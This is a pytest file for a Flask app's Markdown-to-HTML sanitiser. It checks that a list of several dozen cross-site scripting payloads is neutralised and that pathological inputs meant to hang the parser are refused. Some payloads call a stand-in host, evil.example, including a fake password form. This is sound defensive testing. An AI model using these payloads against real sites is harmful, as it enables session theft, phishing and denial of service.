"""What people write becomes HTML that cannot harm, or is refused before it can hang the house."""

import unicodedata

import pytest
from bs4 import BeautifulSoup
from flask import Flask

from foundation.text import (
    TEXT_LIMIT,
    TextRefused,
    clean_line,
    clean_text,
    plain_summary,
    render_markdown,
    sanitise,
)

pytestmark = pytest.mark.only_on("sqlite")  # no row is read

ALLOWED = set(
    "p br hr em strong del code pre blockquote ul ol li a h2 h3 h4 h5 h6 table thead tbody tr th td dl dt dd"
    " abbr sup".split()
)
ATTRIBUTES = {"a": {"href", "title", "rel"}, "abbr": {"title"}, "ol": {"start"}}

HARMFUL = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror&#61;alert(1)>",
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](x)',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='position:fixed;inset:0;background:url(//evil.example)'>x</p>",
    "<div id=main class=govuk-button data-module=x>x</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=# onclick=alert(1) target=_blank>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[x](https://a.fi "onmouseover=alert(1)")',
    '[x](https://a.fi" onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '``` "><script>alert(1)</script>\nx\n```',
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '*[HTML]: "><script>alert(1)</script>\n\nHTML',
    "<!--><script>alert(1)</script>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<a\x00href=javascript:alert(1)>x</a>",
    "# <script>alert(1)</script> {: onclick=alert(1) }",
]

KILLERS = {
    "too long": "a" * (TEXT_LIMIT + 1),
    "much too long": "a" * 10_000_000,
    "a heap of what is not seen": "\u200b" * (10 * TEXT_LIMIT + 1),
    "brackets": "[" * 5_000,
    "links begun": "[a](" * 5_000,
    "pictures begun": "![[" * 5_000,
    "tags begun": "<a " * 5_000,
    "divs": "<div>" * 3_000,
    "quotes": ">" * 5_000 + "x",
    "spaced quotes": "> " * 5_000 + "x",
    "numbered lists in one line": "1. " * 2_000,
    "lists in one line": "- " * 2_000 + "x",
    "nested lists": "\n".join("  " * depth + "- x" for depth in range(140)),
    "stars": "*" * 5_000,
    "stars and letters": "**a " + "*" * 4_000,
    "underscores": "_" * 5_000,
    "backticks": "`" * 5_000,
    "wide table": "|" * 10_000,
}


def parsed(html: str) -> BeautifulSoup:
    return BeautifulSoup(html, "html.parser")


@pytest.mark.parametrize("source", HARMFUL)
def test_nothing_harmful_comes_through(app: Flask, source: str) -> None:
    with app.test_request_context():
        html = render_markdown(source)
    for tag in parsed(html).find_all(True):
        assert tag.name in ALLOWED, html
        assert set(tag.attrs) <= ATTRIBUTES.get(tag.name, set()), html
        address = tag.attrs.get("href", "https:")
        assert address.split(":")[0] in ("http", "https", "mailto") or ":" not in address, html


@pytest.mark.parametrize("source", HARMFUL)
def test_a_second_cleaning_changes_nothing(app: Flask, source: str) -> None:
    with app.test_request_context():
        html = render_markdown(source)
    assert sanitise(html) == html


@pytest.mark.parametrize("name", KILLERS)
def test_what_no_person_writes_is_refused(app: Flask, name: str) -> None:
    """F3-b, F3-c, F3-e."""
    with app.test_request_context(), pytest.raises(TextRefused) as refused:
        render_markdown(KILLERS[name])
    assert str(refused.value)


@pytest.mark.parametrize(
    "source",
    [
        "# Havainto\n\nMe *kokeilimme* ja **kirjasimme** tulokset:\n- aamu\n- ilta\n\n1. ensin\n2. sitten",
        "> Lainaus\n>> ja sen sisällä toinen\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        "Termi\n:   Selitys\n\n[Kunta](https://www.kunta.fi/a?b=1&c=2) <mailto:a@b.fi>",
        "```\nif a[0] < b[1]:\n    print('<b>')\n```",
        "\n".join("  " * depth + "- x" for depth in range(6)),
        "x" * TEXT_LIMIT,
        "Rivi\n" * 3_000,
    ],
)
def test_what_people_do_write_is_taken(app: Flask, source: str) -> None:
    with app.test_request_context():
        assert parsed(render_markdown(source)).get_text().strip()


def test_markdown_reads_as_people_expect(app: Flask) -> None:
    with app.test_request_context():
        soup = parsed(render_markdown("# Otsikko\nRivi yksi\nRivi kaksi\n- a\n- b\n\n[x](https://a.fi)"))
    assert soup.h3 is not None, "a heading stands below the page's own"
    assert soup.h1 is None
    assert soup.br is not None, "a line break is a line break"
    assert [item.get_text() for item in soup.find_all("li")] == ["a", "b"]
    assert soup.a is not None
    assert {"noopener", "noreferrer", "nofollow"} <= set(soup.a["rel"])


def test_templates_in_a_text_are_only_text(app: Flask) -> None:
    with app.test_request_context():
        html = render_markdown("{{ 7+7 }} {% import os %} ${7+7} %s {0.class}")
    assert parsed(html).get_text().strip() == "{{ 7+7 }} {% import os %} ${7+7} %s {0.class}"


@pytest.mark.parametrize("bad", ["\x00", "\x07", "\u202e", "\u2066", "\u200b", "\ufeff", "\ud800", "\x9b"])
def test_what_is_not_seen_is_not_kept(bad: str) -> None:
    assert clean_text(f"a{bad}b") == "ab"
    assert clean_line(f" a{bad}b\n c ") == "ab c"
    assert clean_line(bad * 3) == ""


def test_the_same_name_is_the_same_however_it_was_typed() -> None:
    apart = unicodedata.normalize("NFD", "Mäkinen")
    assert apart != "Mäkinen"
    assert clean_line(apart) == "Mäkinen"


def test_emoji_of_several_parts_stay_whole() -> None:
    assert clean_line("👩‍👩‍👧") == "👩‍👩‍👧"


def test_a_summary_is_plain_and_cut_at_a_word() -> None:
    text = "# Otsikko\n\nTämä on **pitkä** [linkki](https://a.fi) ja `koodi` " + "sana " * 60
    summary = plain_summary(text, 60)
    assert len(summary) <= 60
    assert summary.endswith("sana…")
    assert not set("#*`[]") & set(summary)
    assert plain_summary("Lyhyt.") == "Lyhyt."
    assert plain_summary("# Mitä teimme ##\n\n## Miksi?\nSiksi.") == "Mitä teimme. Miksi? Siksi."
    assert plain_summary("# Vain otsikko") == "Vain otsikko"
